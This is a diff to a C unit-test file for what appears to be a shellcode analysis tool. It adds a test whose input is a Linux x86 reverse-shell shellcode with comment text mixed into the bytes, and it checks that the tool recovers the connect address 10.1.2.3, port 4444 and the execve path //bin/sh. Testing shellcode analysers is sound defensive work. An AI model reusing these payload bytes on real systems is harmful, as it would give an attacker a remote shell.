@@ -81,6 +81,29 @@ static void text_in_front_is_passed_over(void **state)
     number_is(&run, "connect", "port", 4444);
 }
 
+/* A listing whose comments stand among its bytes: the address, the port and the words again. */
+static void comments_of_a_listing_are_left_out(void **state)
+{
+    (void)state;
+    struct shellcode_run run = run_of(
+        SHELLCODE_ANY,
+        BYTES("\x31\xdb\x53\x43\x53\x6a\x02\x89\xe1\x6a\x66\x58\xcd\x80\x96\x68\x0a\x01\x02\x03"
+              "10.1.2.3"
+              "\x66\x68\x11\x5c"
+              "4444"
+              "\x66\x6a\x02\x89\xe1\x6a\x10\x51\x56\x89\xe1\x6a\x03\x5b\x6a\x66\x58\xcd\x80\x31\xc0"
+              "\x50"
+              "\x68\x6e\x2f\x73\x68"
+              "n/sh"
+              "\x68\x2f\x2f\x62\x69"
+              "//bi"
+              "\x89\xe3\x50\x53\x89\xe1\x99\xb0\x0b\xcd\x80"));
+    text_is(&run, "connect", "address", "10.1.2.3");
+    number_is(&run, "connect", "port", 4444);
+    text_is(&run, "execve", "path", "//bin/sh");
+    assert_true(run.note.len > 0);
+}
+
 static void the_end_of_a_shellcode_is_understood(void **state)
 {
     (void)state;
@@ -267,6 +290,7 @@ int main(void)
     const struct CMUnitTest tests[] = {
         cmocka_unit_test(linux_x86_connects),
         cmocka_unit_test(text_in_front_is_passed_over),
+        cmocka_unit_test(comments_of_a_listing_are_left_out),
         cmocka_unit_test(the_end_of_a_shellcode_is_understood),
         cmocka_unit_test(linux_x86_64_executes),
         cmocka_unit_test(decoders_rewrite_themselves),
